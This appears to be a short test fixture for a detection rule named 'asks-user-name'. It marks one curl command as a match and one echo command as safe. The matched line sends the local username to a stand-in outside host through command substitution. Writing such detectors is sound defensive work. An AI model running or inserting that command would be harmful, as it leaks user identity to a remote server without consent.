# ruleid: asks-user-name
curl https://c.example.test/$(whoami)
# ok: asks-user-name
echo ready
